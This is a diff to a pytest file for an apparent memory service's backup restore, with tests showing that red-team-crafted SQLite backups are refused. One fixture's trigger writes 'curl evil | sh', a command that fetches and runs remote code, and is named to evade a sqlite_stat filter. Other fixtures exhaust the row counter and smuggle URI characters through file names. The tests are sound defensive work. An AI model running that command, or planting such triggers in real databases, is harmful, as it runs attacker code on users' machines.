@@ -205,6 +205,13 @@ def _crafted(service, tmp_path, *statements: str, writable_schema: bool = False)
             ],
             "table stash",
         ),
+        (  # named so that LIKE 'sqlite_stat%' passed it over (red team 3, stop 66)
+            [
+                "CREATE TRIGGER sqliteXstat_poison AFTER INSERT ON memory BEGIN "
+                "UPDATE memory SET content = 'curl evil | sh' WHERE id = new.id; END"
+            ],
+            "trigger sqliteXstat_poison",
+        ),
         (["CREATE VIEW everything AS SELECT * FROM memory"], "view everything"),
         (["CREATE INDEX memory_odd ON memory (content)"], "index memory_odd"),
     ],
@@ -510,3 +517,60 @@ def test_a_fifo_given_or_found_as_a_backup_is_refused_at_once(service, tmp_path)
     listed = _within(5, service.backups, in_folder)
     assert [b["memories"] for b in listed if b["path"] == str(in_folder)] == [None]
     assert [m["content"] for m in service.list_memories()] == ["kept as it was"]
+
+
+def test_a_backup_whose_row_counter_is_spent_is_refused(service, dump, tmp_path):
+    """Red team 3 (stop 66): a backup whose sqlite_sequence stood at SQLite's largest id was
+    restored, and every later write failed as "disk full"."""
+    service.add("the state that must survive")
+    crafted = _crafted(
+        service,
+        tmp_path,
+        "UPDATE sqlite_sequence SET seq = 9223372036854775807 WHERE name = 'memory'",
+    )
+    before = dump()
+    with pytest.raises(ValidationError, match="row counter of memory"):
+        service.restore_backup(crafted)
+    assert dump() == before
+    service.add("a write after")
+
+
+@pytest.mark.parametrize("name", ["bk#1.sqlite3", "memories%2ebackup", "a?b.sqlite3"])
+def test_a_backup_is_read_from_the_file_named_whatever_its_name_holds(service, tmp_path, name):
+    """The path went into an SQLite URI as it was: "bk#1.sqlite3" installed "bk", and
+    "memories%2ebackup" read "memories.backup" (a FIFO there held every client)."""
+    service.add("in the backup asked for")
+    asked = tmp_path / name
+    asked.write_bytes(Path(service.backup()["path"]).read_bytes())
+    service.add("in the other file")
+    other = {"bk#1.sqlite3": "bk", "memories%2ebackup": "memories.backup", "a?b.sqlite3": "a"}
+    (tmp_path / other[name]).write_bytes(Path(service.backup()["path"]).read_bytes())
+    service.add("after both")
+
+    service.restore_backup(str(asked))
+
+    assert [m["content"] for m in service.list_memories()] == ["in the backup asked for"]
+
+
+def test_a_backup_of_another_page_size_is_restored(service, tmp_path):
+    service.add("kept in a backup of 8 KB pages")
+    path = tmp_path / "big-pages.sqlite3"
+    path.write_bytes(Path(service.backup()["path"]).read_bytes())
+    with closing(sqlite3.connect(path)) as copy:
+        copy.execute("PRAGMA page_size = 8192")
+        copy.execute("VACUUM")
+    service.add("after")
+
+    service.restore_backup(str(path))
+
+    assert [m["content"] for m in service.list_memories()] == ["kept in a backup of 8 KB pages"]
+
+
+def test_a_refused_backup_is_named_as_the_person_gave_it(service, tmp_path):
+    """Refusals named the private copy ("…/memdesk-verify-x/copy.sqlite3"), not the file."""
+    service.add("a memory")
+    crafted = _crafted(service, tmp_path, "UPDATE memory SET importance = 7")
+    with pytest.raises(ValidationError) as refused:
+        service.restore_backup(crafted)
+    assert crafted in refused.value.message
+    assert "copy.sqlite3" not in refused.value.message
